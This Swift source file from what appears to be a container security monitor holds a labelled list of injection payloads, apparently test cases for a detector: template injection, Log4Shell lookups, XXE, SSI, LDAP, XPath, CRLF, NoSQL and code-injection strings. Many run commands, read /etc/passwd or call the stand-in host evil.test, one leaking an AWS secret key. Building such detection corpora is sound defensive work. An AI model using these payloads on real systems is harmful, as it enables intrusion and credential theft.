// Jaga - container security monitor
// SPDX-License-Identifier: Apache-2.0

extension AuthoredCases {
    /// Templates, lookups, documents, queries, headers, code: `class|value`.
    static let others = #"""
        ssti|{{7*7}}
        ssti|${7*7}
        ssti|#{7*7}
        ssti|*{7*7}
        ssti|@(7*7)
        ssti|<%= 7*7 %>
        ssti|<%= system('id') %>
        ssti|<% import os %>
        ssti|{{7*'7'}}
        ssti|{{config}}
        ssti|{{config.items()}}
        ssti|{{self}}
        ssti|{{request.application.__globals__}}
        ssti|{{''.__class__.__mro__[1].__subclasses__()}}
        ssti|{{ cycler.__init__.__globals__.os.popen('id').read() }}
        ssti|{{lipsum.__globals__['os'].popen('id').read()}}
        ssti|{{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')}}
        ssti|{%import os%}{{os.popen('id').read()}}
        ssti|{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}
        ssti|{% set x = 7*7 %}{{x}}
        ssti|{% debug %}
        ssti|{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}
        ssti|{{['id']|filter('system')}}
        ssti|{{['cat /etc/passwd']|map('system')|join}}
        ssti|{{app.request.server.all|join(',')}}
        ssti|{{dump(app)}}
        ssti|<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}
        ssti|${"freemarker.template.utility.Execute"?new()("id")}
        ssti|[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}
        ssti|#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))
        ssti|#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")
        ssti|$class.inspect("java.lang.Runtime").type.getRuntime().exec("id")
        ssti|{php}echo `id`;{/php}
        ssti|{system('id')}
        ssti|{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"x",self::clearConfig())}
        ssti|{$smarty.version}
        ssti|{if phpinfo()}{/if}
        ssti|__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x
        ssti|__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id").getInputStream()).next()}__::.x
        ssti|${T(java.lang.System).getenv()}
        ssti|*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}
        ssti|[[${7*7}]]
        ssti|[(${7*7})]
        ssti|@{1+1}
        ssti|@System.Diagnostics.Process.Start("cmd.exe","/c whoami");
        ssti|@{ var x = 7*7; }@x
        ssti|{{#with "s" as |string|}}{{#with "e"}}{{/with}}{{/with}}
        ssti|{{=7*7}}
        ssti|{{= global.process.mainModule.require('child_process').execSync('id') }}
        ssti|#{global.process.mainModule.require('child_process').execSync('id')}
        ssti|#{root.process.mainModule.require('child_process').spawnSync('id').stdout}
        ssti|<%= File.open('/etc/passwd').read %>
        ssti|<%= `id` %>
        ssti|<%=IO.popen('id').readlines()%>
        ssti|#{ %x|id| }
        ssti|${self.module.cache.util.os.system("id")}
        ssti|<%import os%>${os.popen('id').read()}
        ssti|{{range.constructor("return global.process.mainModule.require('child_process').execSync('id')")()}}
        ssti|{{'a'.toUpperCase()}}
        ssti|{{ ''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval('1') }}
        ssti|{% raw %}{{7*7}}{% endraw %}
        ssti|{{ joiner.__init__.__globals__.os }}
        ssti|{{ get_flashed_messages.__globals__ }}
        ssti|${{7*7}}
        ssti|${{<%[%'"}}%\
        ssti|{{'7'*7}}
        ssti|{{1337*1337}}
        ssti|{{ 191 * 7 }}
        ssti|{{4*4}}[[5*5]]
        ssti|${class.getResource("../../../../../index.htm").getContent()}
        ssti|${#rt = @java.lang.Runtime@getRuntime(),#rt.exec("id")}
        ssti|{{.System "ls"}}
        ssti|{{printf "%s" "x"}}
        ssti|{{ .Env.SECRET }}
        log4shell|${jndi:ldap://evil.test/a}
        log4shell|${jndi:rmi://evil.test/a}
        log4shell|${jndi:dns://evil.test/a}
        log4shell|${jndi:${lower:l}${lower:d}ap://evil.test/a}
        log4shell|${${lower:j}ndi:ldap://evil.test/a}
        log4shell|${${lower:j}${upper:n}${lower:d}${upper:i}:ldap://evil.test/a}
        log4shell|${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.test/a}
        log4shell|${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://evil.test/a}
        log4shell|${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.test/a}
        log4shell|${jnd${upper:ı}:ldap://evil.test/a}
        log4shell|${${what:ever:-j}ndi:ldap://evil.test/a}
        log4shell|${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.test/a}
        log4shell|${${:-j}ndi:ldap://evil.test/a}
        log4shell|${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.test/a}
        log4shell|${jndi:ldap://${hostName}.evil.test/a}
        log4shell|$%7bjndi:ldap://evil.test/a%7d
        log4shell|%24%7Bjndi:ldap://evil.test/a%7D
        log4shell|\u0024{jndi:ldap://evil.test/a}
        log4shell|${jndi:iiop://evil.test/a}
        log4shell|${jndi:ldap:/evil.test/a}
        log4shell|${ jndi:ldap://evil.test/a}
        log4shell|${JNDI:LDAP://evil.test/a}
        log4shell|${${base64:am5kaTpsZGFwOi8v}evil.test/a}
        log4shell|${env:PATH}
        log4shell|${sys:user.name}
        log4shell|${java:version}
        log4shell|${script:javascript:java.lang.Runtime.getRuntime().exec('id')}
        log4shell|${url:UTF-8:http://evil.test}
        log4shell|${dns:address|evil.test}
        xxe|<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>
        xxe|<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://evil.test/x">]>
        xxe|<!DOCTYPE foo SYSTEM "http://evil.test/x.dtd">
        xxe|<!DOCTYPE r PUBLIC "-//A//B//EN" "http://evil.test/x.dtd">
        xxe|<!ENTITY % a SYSTEM "file:///etc/passwd">
        xxe|<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>
        xxe|<?xml-stylesheet type="text/xml" href="http://evil.test/x.xsl"?>
        xxe|<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>
        ssi|<!--#exec cmd="ls"-->
        ssi|<!--#include virtual="/etc/passwd"-->
        ssi|<!--#echo var="DATE_LOCAL"-->
        ssi|<!--#printenv-->
        ssi|<esi:include src="http://evil.test/x"/>
        ssi|<esi:vars>$(HTTP_COOKIE)</esi:vars>
        ldap|*)(uid=*))(|(uid=*
        ldap|*)(objectClass=*)
        ldap|admin)(&)
        ldap|admin)(!(&(|
        ldap|*)(|(password=*))
        ldap|x)(cn=*))(|(cn=*
        ldap|*)(&(objectClass=user)
        ldap|admin*)((|userPassword=*)
        ldap|)(cn=))\x00
        ldap|(&(uid=admin)(userPassword=*))
        ldap|(|(cn=*)(mail=*))
        xpath|' or '1'='1
        xpath|' or count(/*)=1 or 'a'='b
        xpath|x' or name()='username' or 'x'='y
        xpath|'] | //user/* | //a['
        xpath|//user[name/text()='a' or '1'='1']
        xpath|' and count(/comment())=1 and '1'='1
        xpath|1 or count(//*)>1
        xpath|/*[1]/*[1]
        xpath|string-length(//user[1]/password)=8
        xpath|substring(//user[1]/password,1,1)='a'
        crlf|x⏎Set-Cookie: a=b
        crlf|x⏎⏎<script>alert(1)</script>
        crlf|x⏎Location: http://evil.test
        crlf|x⏎Content-Length: 0⏎⏎HTTP/1.1 200 OK
        crlf|x⏎X-Injected: yes
        crlf|x⏎Host: evil.test
        crlf|x⏎Transfer-Encoding: chunked
        crlf|x%0d%0aSet-Cookie:a=b
        crlf|x%E5%98%8A%E5%98%8DSet-Cookie:a=b
        crlf|x⏎Refresh: 0;url=http://evil.test
        crlf|a@b.test⏎Bcc: c@d.test
        crlf|a@b.test⏎To: c@d.test
        crlf|a⏎Subject: spam⏎⏎body
        crlf|x⏎Access-Control-Allow-Origin: *
        crlf|x⏎Cache-Control: public
        crlf|x⏎Link: <http://evil.test>;rel=preload
        code|<?php system($_GET['c']); ?>
        code|<?=`$_GET[0]`?>
        code|<? phpinfo(); ?>
        code|phpinfo()
        code|phpinfo();
        code|system('id');
        code|system("id")
        code|exec('whoami')
        code|eval($_POST[x])
        code|assert($_REQUEST['a'])
        code|${@system('id')}
        code|{${phpinfo()}}
        code|${@print(md5(1))}
        code|print(md5(31337));
        code|";print(md5(31337));$a="
        code|';phpinfo();//
        code|'.phpinfo().'
        code|'.system('id').'
        code|".system("id")."
        code|1;phpinfo()
        code|$_GET[a]($_GET[b])
        code|call_user_func('system','id')
        code|array_map('system',['id'])
        code|base64_decode('cGhwaW5mbygp')
        code|file_get_contents('/etc/passwd')
        code|file_put_contents('x.php','<?php ?>')
        code|preg_replace('/.*/e','phpinfo()','')
        code|create_function('','phpinfo();')
        code|include('http://evil.test/x')
        code|require_once('/etc/passwd')
        code|('sys'.'tem')('id')
        code|"\x73ystem"("id")
        code|(sy.(st).em)(whoami)
        code|O:8:"stdClass":1:{s:1:"a";i:1;}
        code|a:1:{i:0;O:4:"User":0:{}}
        code|O:+8:"stdClass":0:{}
        code|C:11:"ArrayObject":37:{x:i:0;}
        code|allow_url_include=1
        code|java.lang.Runtime.getRuntime().exec("id")
        code|T(java.lang.Runtime).getRuntime().exec('id')
        code|new java.lang.ProcessBuilder("id").start()
        code|%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}
        code|%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{"id"})).start()}
        code|${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream()))}
        code|%{1+1}
        code|redirect:${1+1}
        code|redirect:%{#a}
        code|('\u0023_memberAccess[\'allowStaticMethodAccess\']')(meh)=true
        code|class.module.classLoader.resources.context.parent.pipeline.first.pattern=x
        code|rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==
        code|aced00057372
        code|{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://evil.test/a","autoCommit":true}
        code|!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.test/"]]]]
        code|!!python/object/apply:os.system ["id"]
        code|require('child_process').exec('id')
        code|process.mainModule.require('fs').readFileSync('/etc/passwd')
        code|global.process.exit()
        code|res.end(require('fs').readFileSync('/etc/passwd'))
        code|_$$ND_FUNC$$_function(){require('child_process').exec('id')}()
        code|{"__proto__":{"admin":true}}
        code|__proto__[admin]=1
        code|constructor.prototype.admin
        code|__import__('os').system('id')
        code|os.system('id')
        code|exec("import os;os.system('id')")
        code|eval(compile('import os','','exec'))
        code|open('/etc/passwd').read()
        code|subprocess.check_output('id',shell=True)
        code|cos\nsystem\n(S'id'\ntR.
        code|@{[system 'id']}
        code|`id`.inspect
        code|Kernel.exec('id')
        code|%x(id)
        code|System.Diagnostics.Process.Start("cmd")
        code|while(true){}
        code|require("os").execute("id")
        code|os.execute("id")
        code|io.popen("id")
        nosqli|{"$ne":null}
        nosqli|{"$gt":""}
        nosqli|{"$where":"sleep(5000)"}
        nosqli|{"$regex":"^a"}
        nosqli|{"username":{"$ne":""},"password":{"$ne":""}}
        nosqli|{"$or":[{"a":1},{"b":2}]}
        nosqli|{$gt:''}
        nosqli|{"$nin":["x"]}
        nosqli|'; return true; var a='
        nosqli|' || 1==1//
        nosqli|' || 'a'=='a
        nosqli|' && this.password.match(/.*/)//
        nosqli|';sleep(5000);'
        nosqli|1;return true
        nosqli|true, $where: '1 == 1'
        nosqli|, $where: '1 == 1'
        nosqli|$where: '1 == 1'
        nosqli|db.users.find()
        nosqli|db.users.insert({a:1})
        nosqli|{"$lookup":{"from":"users"}}
        nosqli|' || this.password.length > 0 || 'a'=='b
        nosqli|a' || true || 'b
        nosqli|function(){return true}
        ssti|{{7+7}}
        ssti|{{ 7 * 7 }}
        ssti|${7*'7'}
        ssti|#{3*3}
        ssti|<%=7*7%>
        ssti|{{request.environ}}
        ssti|{{config['SECRET_KEY']}}
        ssti|{{().__class__}}
        ssti|{{url_for.__globals__['os'].popen('id').read()}}
        ssti|{{"".getClass()}}
        ssti|{{['id']|map('passthru')}}
        ssti|{{'/etc/passwd'|file_excerpt(1,30)}}
        ssti|${product.getClass()}
        ssti|<#assign x=7*7>${x}
        ssti|#set($a=7*7)$a
        ssti|{$smarty.template}
        ssti|{php}phpinfo();{/php}
        ssti|@(1+2)
        ssti|*{7*7}
        ssti|[[${3*3}]]
        log4shell|${${lower:${lower:jndi}}:ldap://x.test/a}
        log4shell|${${upper:j}ndi:${lower:l}dap://x.test}
        log4shell|${jndi:ldaps://x.test/a}
        log4shell|${jndi:nis://x.test/a}
        log4shell|%24%7b%6a%6e%64%69:ldap://x.test/a}
        log4shell|${jndi:${lower:r}mi://x.test/a}
        log4shell|${${:::::-j}ndi:ldap://x.test}
        log4shell|${lower:j}
        log4shell|${${env:X:-j}${env:X:-n}di:ldap://x.test}
        code|<?php echo 1; ?>
        code|<?= system('id') ?>
        code|assert('phpinfo()')
        code|shell_exec('id')
        code|passthru('id');
        code|system($_GET[1]);
        code|include $_GET['x'];
        code|preg_replace("/x/e","phpinfo()","x")
        code|$$a='system'
        code|eval(base64_decode('cGhwaW5mbygpOw=='));
        code|new java.net.URL("http://x.test").openStream()
        code|Runtime.getRuntime().exec("id")
        code|${new java.lang.String("a")}
        code|%{#context['xwork.MethodAccessor.denyMethodExecution']=false}
        code|require('fs').readdirSync('.').toString()
        code|process.exit(1)
        code|this.constructor.constructor('return process')()
        code|{"constructor":{"prototype":{"x":1}}}
        code|__import__("subprocess").check_output("id")
        code|eval("__import__('os').system('id')")
        code|O:3:"Foo":1:{s:1:"a";s:1:"b";}
        crlf|a⏎Set-Cookie: x=y⏎
        crlf|%0aSet-Cookie:x=y
        crlf|a⏎⏎<html>
        crlf|a⏎Content-Type: text/html⏎⏎<script>alert(1)</script>
        ldap|*)(cn=*
        ldap|*)(|(objectclass=*)
        ldap|x*)(uid=*))(&(uid=x
        nosqli|{"$gte":0}
        nosqli|{"$exists":true}
        nosqli|';return 1==1;var x='
        nosqli|' || '1'=='1
        nosqli|{"$where":"this.a==this.b"}
        xxe|<!DOCTYPE x [<!ENTITY y SYSTEM "php://filter/read=convert.base64-encode/resource=a">]>
        ssi|<!--#exec cgi="/cgi-bin/x"-->
        ssi|<!--#config errmsg="x"-->
        xpath|x' or 1=1 or 'a'='a
        xpath|' and string-length(name(/*[1]))=4 and '1'='1
        """#
}
